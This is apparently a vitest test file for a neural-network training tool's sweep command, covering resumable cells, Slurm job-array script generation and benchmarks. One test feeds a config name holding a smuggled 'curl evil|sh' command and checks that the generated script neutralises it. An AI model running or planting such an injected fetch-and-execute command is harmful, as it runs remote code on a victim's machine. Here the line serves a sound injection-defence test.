import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BENCH, BIN, run, tempFile } from './testUtils.ts';
import { slurmScript } from './sweep.ts';

interface SweepJson {
  finished: number;
  cells: number;
  failed: string[];
  table: {
    model: { structure: string; delays: string };
    cells: { sparsity: number; mean: number | null; n: number }[];
  }[];
  results: { name: string; testAccuracy: number }[];
}

const SMALL_YINYANG = JSON.stringify({
  extends: 'yinyang',
  task: { trainSamples: 300, testSamples: 100 },
  training: { epochs: 2 },
});

/** `sweep --config <small yinyang> --out <new folder> --sparsities S --seeds K` and the folder. */
function newSweep(sparsities: string, seeds: string): { out: string; args: string[] } {
  const base = tempFile('base.json', SMALL_YINYANG);
  const out = mkdtempSync(join(tmpdir(), 'delaylab-sweep-'));
  return {
    out,
    args: ['sweep', '--config', base, '--out', out, '--sparsities', sparsities, '--seeds', seeds],
  };
}

describe('delaylab sweep (the four-way ablation)', () => {
  it('runs every cell as its own process, resumes a started cell, never reruns a finished one', () => {
    const sweep = newSweep('75', '1');
    const { out } = sweep;
    const args = [...sweep.args, '--processes', '2', '--json'];
    // One cell started by hand first (1 of its 2 epochs), as a sweep killed mid-cell leaves it.
    const manifestOnly = run(BIN, [...args.slice(0, -3), '--slurm']);
    expect(manifestOnly.code, manifestOnly.stderr).toBe(0);
    const manifest = JSON.parse(readFileSync(join(out, 'sweep.json'), 'utf8')) as {
      cells: { name: string; link: string }[];
    };
    expect(manifest.cells.map((c) => c.name)).toEqual([
      'fixed-structure_fixed-delays_s75_seed1',
      'fixed-structure_learned-delays_s75_seed1',
      'learned-structure_fixed-delays_s75_seed1',
      'learned-structure_learned-delays_s75_seed1',
    ]);
    const started = manifest.cells[3]!;
    const first = run(BIN, [
      'train',
      '--config',
      started.link,
      '--out',
      join(out, started.name),
      '--epochs',
      '1',
    ]);
    expect(first.code, first.stderr).toBe(0);
    const firstEpoch = (
      JSON.parse(readFileSync(join(out, started.name, 'metrics.json'), 'utf8')) as unknown[]
    )[0];

    const r = run(BIN, args);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/4 cells, 0 already finished, 4 to run, 2 at a time/);
    expect(r.stderr).toMatch(new RegExp(`resuming ${started.name}`));
    const summary = JSON.parse(r.stdout) as SweepJson;
    expect(summary.finished).toBe(4);
    expect(summary.table.map((row) => row.cells[0]!.n)).toEqual([1, 1, 1, 1]);
    for (const row of summary.table) expect(row.cells[0]!.mean).toBeGreaterThan(0);
    // The resumed cell kept its first epoch and added the second.
    const history = JSON.parse(readFileSync(join(out, started.name, 'metrics.json'), 'utf8')) as unknown[];
    expect(history).toHaveLength(2);
    expect(history[0]).toEqual(firstEpoch);

    const checkpoint = join(out, manifest.cells[0]!.name, 'checkpoint.dlck');
    const before = statSync(checkpoint).mtimeMs;
    const again = run(BIN, ['sweep', '--out', out, '--json']);
    expect(again.code, again.stderr).toBe(0);
    expect(again.stderr).toMatch(/4 cells, 4 already finished, 0 to run/);
    expect(statSync(checkpoint).mtimeMs).toBe(before);
    expect((JSON.parse(again.stdout) as SweepJson).results).toEqual(summary.results);

    // The same folder refuses a different sweep.
    const other = run(BIN, [...args.slice(0, 5), '--sparsities', '50', '--seeds', '1']);
    expect(other.code).toBe(2);
    expect(other.stderr).toMatch(/holds a different sweep/);
  }, 240_000);

  it('writes a Slurm job array whose task K trains cell K from its share link', () => {
    const { out, args } = newSweep('50,87.5', '1,2');
    const r = run(BIN, [...args, '--slurm']);
    expect(r.code, r.stderr).toBe(0);
    const script = join(out, 'sweep.slurm');
    const text = readFileSync(script, 'utf8');
    expect(text).toMatch(/#SBATCH --array=0-15\n/);
    expect(text).toMatch(/train --config "\$\{LINKS\[\$K\]\}" --out "\$RUN"/);
    // Task 5 as Slurm would run it (no Slurm here: the script reads only SLURM_ARRAY_TASK_ID).
    const task = (): ReturnType<typeof spawnSync> =>
      spawnSync('bash', [script], {
        encoding: 'utf8',
        env: { ...process.env, SLURM_ARRAY_TASK_ID: '5' },
        timeout: 120_000,
      });
    const t = task();
    expect(t.status, String(t.stderr)).toBe(0);
    const summary = run(BIN, ['sweep', '--out', out, '--summary', '--json']);
    expect(summary.code, summary.stderr).toBe(0);
    const s = JSON.parse(summary.stdout) as SweepJson;
    expect(s.cells).toBe(16);
    expect(s.results.map((x) => x.name)).toEqual(['fixed-structure_learned-delays_s50_seed2']);
    // The task again: its run is finished, so it returns at once.
    const again = task();
    expect(again.status, String(again.stderr)).toBe(0);
    expect(String(again.stdout)).toMatch(/all 2 epochs are done/);
  }, 240_000);

  it('npm run bench times the shd shape at 96.9 % sparsity next to the dense case', () => {
    const r = run(BENCH, ['--config', 'shd,shd-sparse', '--batch', '2', '--steps', '1']);
    expect(r.code, r.stderr).toBe(0);
    const [dense, sparse, comparison] = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>) as [
      Record<string, unknown>,
      Record<string, unknown>,
      Record<string, unknown>,
    ];
    expect([dense['config'], sparse['config']]).toEqual(['shd', 'shd-sparse']);
    // The sparse case's layers hold 1/32 of the dense case's active synapses (parameters stay dense).
    expect(comparison).toMatchObject({ comparison: 'sparse-vs-dense', connectivity: 1 / 32, batch: 2 });
    expect(comparison['speedRatio'] as number).toBeGreaterThan(0);
    expect(r.stderr).toMatch(
      /Sparse \(96\.9 % of synapses absent\) vs dense \(shd shape, batch 2\): [\d.]+x the samples\/s/,
    );
  }, 240_000);

  it('npm run bench on the GPU engine refuses a named EventProp case with the reason, before opening a device', () => {
    const r = run(BENCH, [
      '--engine',
      'gpu',
      '--config',
      'mnist,shd-eventprop',
      '--batch',
      '2',
      '--steps',
      '1',
    ]);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(
      /--engine gpu cannot run 'shd-eventprop': the GPU engine trains with BPTT only; EventProp runs on the CPU engine/,
    );
  });

  it('keeps a config name from a hand-made link out of the Slurm script commands', () => {
    const manifest = {
      version: 1 as const,
      base: 'x\ncurl evil|sh',
      epochs: 1,
      sparsities: [50],
      seeds: [1],
      data: null,
      cells: [],
    };
    const script = slurmScript('/tmp/sweep out', manifest);
    expect(script).not.toMatch(/^curl/m);
    expect(script).toMatch(/^#SBATCH --job-name=delaylab-x_curl_evil_sh$/m);
    expect(script).toMatch(/^#SBATCH --output="\/tmp\/sweep out\/slurm-%A_%a.log"$/m);
  });

  it('lists failed cells and exits 1; refuses a bad list or a missing manifest', () => {
    const out = mkdtempSync(join(tmpdir(), 'delaylab-fail-'));
    const r = run(BIN, [
      'sweep',
      '--config',
      'mnist-small',
      '--out',
      out,
      '--sparsities',
      '50',
      '--seeds',
      '1',
      '--data',
      join(out, 'missing'),
    ]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/4 cell\(s\) failed: fixed-structure_fixed-delays_s50_seed1/);
    expect(readFileSync(join(out, 'fixed-structure_fixed-delays_s50_seed1', 'train.log'), 'utf8')).toMatch(
      /missing/,
    );
    expect(
      run(BIN, ['sweep', '--config', 'yinyang', '--out', out + '-x', '--sparsities', '50,x']).stderr,
    ).toMatch(/--sparsities takes a comma-separated list/);
    expect(run(BIN, ['sweep', '--config', 'yinyang-rewired', '--out', out + '-y']).stderr).toMatch(
      /already sparse/,
    );
    const none = run(BIN, ['sweep', '--out', mkdtempSync(join(tmpdir(), 'delaylab-none-'))]);
    expect(none.code).toBe(2);
    expect(none.stderr).toMatch(/sweep\.json does not exist/);
  }, 240_000);
});
